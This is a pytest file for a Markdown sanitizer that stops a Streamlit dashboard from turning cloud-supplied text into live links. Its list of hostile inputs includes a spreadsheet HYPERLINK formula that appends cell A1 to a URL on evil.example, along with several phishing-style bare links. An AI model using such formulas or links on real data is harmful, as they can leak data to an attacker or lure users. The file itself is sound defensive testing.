"""Cloud text shown through `textsafety.markdown_text` makes no link, bare addresses included: Streamlit's
Markdown (react-markdown with remark-gfm) makes a live <a href> of every GFM autolink literal (`http://`,
`https://`, `www.`, an e-mail address) found in the parsed text, so the backslash escapes that stop
`[text](url)` did not stop `http\\://evil\\.example`. `markdown_text` puts an invisible U+2060 WORD JOINER
in each one (`http<U+2060>://`, `www<U+2060>.`, `a<U+2060>@b`): the text reads as written, and links nothing."""

from __future__ import annotations

from pathlib import Path

import pytest

from flowscope.textsafety import markdown_text
from tests.e2e.helpers import ARGS, ARTIFACTS, CHROMIUM, script_server

JOINER = "\u2060"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "Gateway said https://evil.example/x then gave up",
    "(https://evil.example/paren)",
    "HTTPS://EVIL.EXAMPLE/upper and Http://evil.example/mixed",
    "see www.evil.example now, or WWW.EVIL.EXAMPLE",
    "mail a@evil.example or first.last+tag@mail.evil.example",
    "mailto:ops@evil.example xmpp:bot@evil.example",
    "ftp://evil.example/file",
]
"""Texts a cloud could hold whose addresses GFM (remark-gfm) would make live links of."""


def linkable(text: str) -> list[str]:
    """The forms GFM's autolink literal starts from, as they appear in `text` (case-insensitive)."""
    lowered = text.lower()
    return [form for form in ("http://", "https://", "www.") if form in lowered] + (["@"] if "@" in text else [])


@pytest.mark.parametrize("text", HOSTILE)
def test_no_autolink_literal_survives(text):
    out = markdown_text(text)
    parsed = out.replace("\\", "")                      # what the Markdown parser leaves of the escapes
    lowered = parsed.lower()
    assert "://" not in lowered.replace(JOINER + "://", ""), out
    assert "www." not in lowered and "www\\." not in out.lower(), out
    assert "@" not in parsed.replace(JOINER + "@", ""), out
    assert parsed.replace(JOINER, "").replace("&amp;", "&") == text, "reads as written"


@pytest.mark.parametrize(("text", "expected"), [
    ("https://evil.example/x", "https\u2060\\://evil\\.example/x"),
    ("www.evil.example", "www\u2060\\.evil\\.example"),
    ("WWW.evil.example", "WWW\u2060\\.evil\\.example"),
    ("a@evil.example", "a\u2060\\@evil\\.example"),
    ("[x](http://e)", "\\[x\\]\\(http\u2060\\://e\\)"),
])
def test_the_joiner_goes_inside_each_form(text, expected):
    assert markdown_text(text) == expected


@pytest.mark.parametrize(("text", "expected"), [
    ("Payment.Declined after 3 tries", "Payment\\.Declined after 3 tries"),
    ("arn:aws:states:us-east-1:123:execution:x", "arn\\:aws\\:states\\:us\\-east\\-1\\:123\\:execution\\:x"),
    ("https is a word, www too, and so is mailto", "https is a word, www too, and so is mailto"),
    ("wwwx.example and awww", "wwwx\\.example and awww"),
    ("already \\*escaped\\* text", "already \\\\\\*escaped\\\\\\* text"),
    ("<b>x</b> & y", "&lt;b&gt;x&lt;/b&gt; &amp; y"),
    ("Übergabe fehlgeschlagen: 時間切れ", "Übergabe fehlgeschlagen\\: 時間切れ"),
    (None, ""),
])
def test_ordinary_text_is_unchanged(text, expected):
    """Text with no address gets no joiner: only the escapes it always had."""
    assert markdown_text(text) == expected
    assert JOINER not in markdown_text(text)


def test_existing_guarantees_hold():
    out = markdown_text("![i](http://x) $a$ :red[b] <i>c</i> *d* `f` \x1b[31mred\x1b[0m \u202e\nnext")
    assert out == ("\\!\\[i\\]\\(http\u2060\\://x\\) \\$a\\$ \\:red\\[b\\] "
                   "&lt;i&gt;c&lt;/i&gt; \\*d\\* \\`f\\` red  next")


# ---------------------------------------------------------------- the real renderer

SCRIPT = """\
import streamlit as st
from flowscope.textsafety import markdown_text
for text in {texts!r}:
    st.markdown(markdown_text(text))
st.markdown("done-rendering")
"""


@pytest.mark.slow  # a real streamlit server in headless Chromium
@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian's chromium is not installed")
def test_streamlit_renders_no_link_of_a_cloud_text(tmp_path):
    playwright_api = pytest.importorskip("playwright.sync_api")
    script = tmp_path / "hostile.py"
    script.write_text(SCRIPT.format(texts=HOSTILE))
    with script_server(script) as port, playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS, headless=True)
        try:
            page = browser.new_page(viewport={"width": 1400, "height": 1000})
            page.goto(f"http://127.0.0.1:{port}/", wait_until="domcontentloaded")
            page.get_by_text("done-rendering").wait_for(timeout=60_000)
            ARTIFACTS.mkdir(exist_ok=True)
            page.screenshot(path=str(ARTIFACTS / "markdown-autolinks.png"), full_page=True)
            blocks = page.locator('[data-testid="stMarkdown"]')
            assert blocks.count() == len(HOSTILE) + 1
            links = page.locator('[data-testid="stMarkdown"] a')
            hrefs = [links.nth(i).get_attribute("href") for i in range(links.count())]
            assert page.locator('a[href*="evil" i]').count() == 0, hrefs
            assert hrefs == [], "no link at all in the cloud texts"
            for i, text in enumerate(HOSTILE):
                shown = blocks.nth(i).inner_text().replace(JOINER, "")
                assert " ".join(shown.split()) == " ".join(text.split()), (shown, text)
        finally:
            browser.close()
